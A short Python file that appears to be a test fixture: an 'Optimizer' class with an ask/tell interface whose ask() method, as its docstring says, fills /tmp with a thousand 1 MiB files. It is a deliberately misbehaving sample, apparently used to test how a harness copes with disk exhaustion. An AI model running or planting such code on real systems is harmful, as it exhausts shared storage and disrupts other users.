"""Fills the temporary folder."""

import random


class Optimizer:
    def __init__(self, space, seed, budget):
        self.space, self.rng = space, random.Random(seed)

    def ask(self):
        for number in range(1000):
            with open(f"/tmp/{number}", "wb") as file:
                file.write(bytes(2**20))

    def tell(self, genotype, result):
        pass
